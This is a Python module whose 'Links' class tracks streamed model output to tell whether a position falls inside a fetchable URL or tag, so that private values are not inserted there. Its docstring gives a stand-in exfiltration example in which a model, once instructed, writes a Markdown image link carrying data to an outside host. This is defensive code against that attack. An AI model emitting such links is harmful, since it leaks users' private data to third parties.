"""Links: whether a place in a text lies in an address that a program may fetch.

What stands in such an address goes to whoever answers there, and pictures are fetched by nobody's
will: a model that was told to can write ``![](https://elsewhere/?q=...)``. So a reader of an answer
asks here before it puts a private value in place. Known are destinations of Markdown, tags of HTML
that fetch or lead somewhere, addresses with a scheme, and those that begin with two slashes.
Addresses of servers that no browser fetches (``postgres://``) are none, nor is a destination that
is nothing but a value to call or write to (``tel:``).

Text is told once, in pieces cut anywhere; the answer never depends on the cuts.
"""

from __future__ import annotations

import re

_TAGS = (
    "img|a|iframe|frame|video|audio|source|embed|object|link|script|form|input|button|image|use|svg"
    "|area|base|body|table|td|track|meta|portal"
)
_OPENS = re.compile(
    rf"(?P<round>\]\()|(?P<tag><(?:{_TAGS})[\s/])"
    r"|(?P<bare>:[/\\]{2}|https?:[A-Za-z0-9%\[]|[=(\"'\s;\]>][/\\]{2})",
    re.IGNORECASE,
)
_SERVERS = re.compile(
    r"(?:[a-z]+\+)?(?:postgres(?:ql)?|mysql|mariadb|mssql|sqlserver|oracle|redis|rediss|mongodb|amqps?|kafka|nats"
    r"|mqtts?|ldaps?|smtps?|imaps?|ssh|sftp|jdbc|clickhouse|neo4j|bolt|memcached|zookeeper|etcd)"
    r"(?:\+[a-z0-9]+)?\Z",
    re.IGNORECASE,
)
_TO_A_VALUE = re.compile(r"(?:<?|\s*href=[\"']?)(?:tel|mailto|sms):\Z", re.IGNORECASE)
"""Between the opening of a destination and the value that is all of it."""
_BARE_END = re.compile("[\\s<>\"'`\u0080-\U0010ffff]")
_LONGEST_OPENING = 32
_HEAD = 24
_EDGE = "\ufdd0"
"""The end of a string of JSON (see `gateway.engine.lens`)."""


class Links:
    """Follows one text."""

    def __init__(self) -> None:
        self._kind = ""
        self._head = ""
        """The first code points behind what opened the address."""
        self._tail = "\n"
        """The last ones in which one may still begin to open."""
        self._depth = 0
        self._escaped = False
        self._angled = False
        self._line_is_blank = False

    @property
    def inside(self) -> bool:
        """Whether what comes next would go to a stranger with the address."""
        if self._kind == "bare":
            return True
        return bool(self._head.strip(" \n<")) and _TO_A_VALUE.fullmatch(self._head) is None

    def tell(self, text: str) -> None:
        """Take what comes next in the text."""
        at = 0
        while at < len(text):
            at = self._close(text, at) if self._kind else self._open(text, at)

    def _open(self, text: str, at: int) -> int:
        told = len(self._tail)
        joined = self._tail + text[at:]
        place = 0
        while (found := _OPENS.search(joined, place)) is not None:
            left = joined[max(0, found.start() - _LONGEST_OPENING) : found.start()]
            if found.end() > told and (found[0][0] != ":" or _SERVERS.search(left) is None):
                break
            place = found.start() + 1
        if found is None:
            self._tail = joined[-_LONGEST_OPENING:]
            return len(text)
        self._kind, self._head, self._tail = found.lastgroup or "", "", ""
        self._depth, self._escaped, self._angled, self._line_is_blank = 0, False, False, False
        return at + found.end() - told

    def _close(self, text: str, at: int) -> int:
        end = self._end(text, at)
        if len(self._head) < _HEAD:
            self._head += text[at : end][: _HEAD - len(self._head)]
        if end < len(text):
            self._kind, self._head, self._tail = "", "", text[end]
        return end + 1

    def _end(self, text: str, at: int) -> int:
        """Return where the address ends, or the length of the text."""
        if self._kind == "bare":
            found = _BARE_END.search(text, at)
            return found.start() if found else len(text)
        ends = self._ends_tag if self._kind == "tag" else self._ends_round
        begun = bool(self._head.strip())
        for place in range(at, len(text)):
            char = text[place]
            if char == _EDGE or ends(char, begun=begun):
                return place
            begun = begun or not char.isspace()
        return len(text)

    def _ends_tag(self, char: str, *, begun: bool) -> bool:
        """True at the end of a tag, and at a blank line, behind which no tag goes on."""
        del begun
        if char == "\n" and self._line_is_blank:
            return True
        self._line_is_blank = char == "\n" or (self._line_is_blank and char.isspace())
        return char == ">"

    def _ends_round(self, char: str, *, begun: bool) -> bool:
        """True at the end of a destination in round brackets (CommonMark 0.31, 6.3)."""
        if self._escaped:
            self._escaped = False
            return False
        self._escaped = char == "\\"
        if char == "<" and not begun:
            self._angled = True
        elif self._angled:
            return char in ">\n"
        elif char == "(":
            self._depth += 1
        elif char == ")":
            self._depth -= 1
            return self._depth < 0
        return begun and char.isspace()
